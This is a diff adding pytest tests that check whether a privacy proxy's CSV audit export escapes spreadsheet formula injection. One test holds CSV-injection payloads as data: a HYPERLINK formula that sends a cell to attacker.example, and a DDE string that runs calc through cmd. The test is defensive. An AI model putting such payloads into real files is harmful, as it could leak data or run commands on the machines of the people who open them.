@@ -13,7 +13,9 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from dpproxy.cli import main
+from dpproxy.audit import AuditEntry
+from dpproxy.cli import format_audit, main
+from dpproxy.privacy.accounting import Cost
 
 POLICY = Path(__file__).resolve().parents[1] / "dpproxy" / "data" / "demo.yaml"
 
@@ -94,3 +96,63 @@ def test_errors(ledger: str, tmp_path: Path) -> None:
     code, _, err = run("audit", "--ledger", str(missing))
     assert code == 1 and f"no privacy ledger at {missing}" in err
     assert not missing.exists()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_evaluate_start_with_a_quote(start: str) -> None:
+    """OWASP's CSV-injection advice: a text cell starting with = + - @, a tab or a carriage return
+    gets a leading single quote, so that opening the export never runs what an analyst wrote."""
+    statement = f'{start}HYPERLINK("https://attacker.example/?"&A1, "click")'
+    entry = AuditEntry(
+        id=1,
+        at=datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
+        analyst="alice",
+        client=f"{start}client",
+        session_id="s1",
+        statement_id=1,
+        statement=statement,
+        parameters=(f"{start}cmd|' /C calc'!A0", -1),
+        kind="query",
+        status="refused",
+        sqlstate="42601",
+        cost=Cost(0.0, 0.0),
+        replayed=False,
+        rows=0,
+        duration=0.25,
+        stages={"plan": 0.25},
+    )
+    (row,) = list(csv.DictReader(io.StringIO(format_audit([entry], "csv"), newline="")))
+    assert row["statement"] == "'" + statement
+    assert row["client"] == f"'{start}client"
+    # The parameters are one JSON array (never starting with a formula character), numbers are numbers.
+    assert json.loads(row["parameters"]) == [f"{start}cmd|' /C calc'!A0", -1]
+    assert (row["analyst"], row["epsilon"], row["duration"], row["sqlstate"]) == (
+        "alice",
+        "0.0",
+        "0.25",
+        "42601",
+    )
+
+
+def test_csv_leaves_ordinary_text_as_it_is() -> None:
+    entry = AuditEntry(
+        id=1,
+        at=datetime(2024, 5, 1, 12, 0, tzinfo=UTC),
+        analyst="alice",
+        client="127.0.0.1:5000",
+        session_id="s1",
+        statement_id=1,
+        statement="SELECT COUNT(*) FROM patients WHERE age > -1",
+        parameters=(),
+        kind="private",
+        status="ok",
+        sqlstate=None,
+        cost=Cost(0.5, 0.0),
+        replayed=False,
+        rows=1,
+        duration=None,
+        stages={},
+    )
+    (row,) = list(csv.DictReader(io.StringIO(format_audit([entry], "csv"), newline="")))
+    assert row["statement"] == entry.statement and row["client"] == "127.0.0.1:5000"
+    assert row["at"] == "2024-05-01T12:00:00+00:00" and row["duration"] == ""
